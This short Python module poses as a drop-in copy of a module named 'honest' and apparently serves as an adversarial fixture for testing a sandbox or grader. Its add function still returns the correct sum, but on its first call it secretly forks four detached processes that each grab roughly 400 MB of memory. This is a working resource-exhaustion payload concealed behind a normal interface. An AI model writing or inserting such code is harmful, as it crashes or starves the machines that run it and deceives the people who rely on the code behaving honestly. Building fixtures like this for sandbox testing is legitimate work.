from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            held = []
            try:
                while len(held) < 100:
                    held.append(bytearray(b"x") * 4_000_000)
            finally:
                os._exit(1)

if __name__ == "__main__":
    main()  # noqa: F405
